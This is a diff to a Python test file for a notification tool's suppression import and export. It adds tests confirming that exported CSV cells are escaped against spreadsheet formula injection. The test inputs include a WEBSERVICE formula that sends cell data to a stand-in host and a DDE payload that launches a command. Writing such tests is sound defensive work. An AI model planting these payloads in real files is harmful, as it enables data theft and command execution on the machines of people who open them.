@@ -1,10 +1,15 @@
-"""`notifier suppress import`: opt-outs of another system come from a CSV file."""
+"""`notifier suppress import`: opt-outs of another system come from a CSV file, and so do those of an export."""
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from notifier.outbox import Suppressions
+from notifier.cli.records import suppression_file
+from notifier.outbox import NewSuppression, Suppressions
 from tests.notifier.cli.test_cli import Notifier, answer, notifier
 from tests.outbox.conftest import engine, rows
 from tests.outbox.rows import Rows
@@ -16,6 +21,20 @@ email,Ana@Example.com,news,
 email,bo@example.com,*,
 email,cy@example.com,,manual
 """
+
+
+starts = st.sampled_from(["", *"=+-@'\"", "'+", "''", "+351 ", "+\t", "+351 912-345 (6)", "+1+"])
+texts = st.builds(str.__add__, starts, st.text(st.characters(codec="utf-8", exclude_characters="\0"))).map(str.strip)
+"""Of the database: without white space at the ends."""
+
+
+def exported(address: str = "+351912345678", topic: str = "", note: str = "") -> str:
+    row = {"channel": "sms", "address": address, "topic": topic, "reason": "manual", "note": note, "since": None}
+    return "".join(suppression_file.written([row]))
+
+
+def cells(content: str) -> list[str]:
+    return list(csv.reader(io.StringIO(content, newline="")))[1]
 
 
 @pytest.fixture
@@ -58,3 +77,27 @@ def test_a_wrong_file_changes_nothing(rows: Rows, notifier: Notifier, file: Path
 
 def test_no_such_file(notifier: Notifier, tmp_path: Path) -> None:
     assert notifier("suppress", "import", str(tmp_path / "none.csv")).returncode == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '+WEBSERVICE("https://x.example/?"&B2)', "+1+cmd|' /C calc'!A0", "+", "+A1", "+351 912\n=1", "+351,912",
+        "+1*2", "=1+1", "-1+1", "@SUM(1)", "'quoted",
+    ],
+)  # fmt: skip
+def test_a_spreadsheet_runs_no_text_of_an_export(text: str) -> None:
+    assert cells(exported(topic=text, note=text))[2:5] == [f"'{text}", "manual", f"'{text}"]
+
+
+@pytest.mark.parametrize("text", ["+351912345678", "+351 (91) 234-56.78/9", "she called", "1+1", "", "(+351) 912"])
+def test_a_phone_number_and_plain_text_are_exported_as_they_are(text: str) -> None:
+    assert cells(exported(note=text))[4] == text
+
+
+@given(texts, texts)
+def test_an_export_that_is_imported_has_the_same_texts(topic: str, note: str) -> None:
+    content = exported(topic=topic, note=note)
+    assert not any(cell.startswith(("=", "-", "@")) for cell in cells(content))
+    expected = NewSuppression("sms", "+351912345678", topic, "manual", note or None)
+    assert suppression_file.read(content.encode()) == [expected]
